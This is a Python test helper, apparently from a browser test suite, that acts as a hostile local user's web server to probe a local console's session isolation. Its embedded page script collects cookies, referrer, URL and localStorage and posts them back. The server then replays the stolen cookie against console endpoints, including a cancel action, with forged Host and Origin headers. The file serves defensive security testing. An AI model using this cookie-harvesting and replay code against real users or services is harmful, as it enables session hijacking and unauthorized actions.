"""Another local user's web server on 127.0.0.1 (stdlib only: the browser tests run it as a
second uid, its source handed over by `-c`). Its page reports what a visiting browser shows
it; it replays whatever credential arrived against the console, as curl would, with the
console's own Host and Origin. Every request and replay is one JSON line on stdout.

    python3 snoop.py CONSOLE_PORT PROJECT_ID
"""

from __future__ import annotations

import http.client
import json
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import urlsplit

# What its page runs in the visiting browser: everything that page can see.
PAGE = b"""<!DOCTYPE html><title>elsewhere</title><script>
fetch("/report", {method: "POST", body: JSON.stringify({
  cookie: document.cookie, referrer: document.referrer, href: location.href,
  storage: JSON.stringify(window.localStorage)})});
</script>"""


def say(record: dict[str, Any]) -> None:
    print(json.dumps(record), flush=True)


def replay(console_port: int, pid: str, cookie: str, referers: list[str]) -> None:
    """Each console path (and any URL a Referer named) with the cookie it received."""
    paths = [("GET", f"/p/{pid}"), ("GET", f"/p/{pid}/events"), ("GET", "/"),
             ("POST", f"/p/{pid}/cancel")]
    paths += [("GET", urlsplit(r)._replace(scheme="", netloc="").geturl()) for r in referers]
    for method, path in paths:
        conn = http.client.HTTPConnection("127.0.0.1", console_port, timeout=30)
        try:
            conn.request(method, path or "/", headers={
                "Host": f"127.0.0.1:{console_port}", "Cookie": cookie,
                "Origin": f"http://127.0.0.1:{console_port}"})
            status = conn.getresponse().status
        finally:
            conn.close()
        say({"kind": "replay", "method": method, "path": path, "status": status})


def main() -> None:
    console_port, pid = int(sys.argv[1]), sys.argv[2]
    referers: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def _keep(self) -> dict[str, str]:
            size = int(self.headers.get("Content-Length", 0))
            headers = {k.lower(): v for k, v in self.headers.items()}
            say({"kind": "request", "method": self.command, "path": self.path,
                 "headers": headers, "body": self.rfile.read(size).decode("utf-8", "replace")})
            if "referer" in headers:
                referers.append(headers["referer"])
            return headers

        def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
            self._keep()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(PAGE)

        def do_POST(self) -> None:  # noqa: N802 - the stdlib's name
            headers = self._keep()
            self.send_response(204)
            self.end_headers()
            if self.path == "/report":
                replay(console_port, pid, headers.get("cookie", ""), list(referers))
                say({"kind": "replayed"})

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    say({"kind": "listening", "port": server.server_address[1]})
    server.serve_forever()


if __name__ == "__main__":
    main()
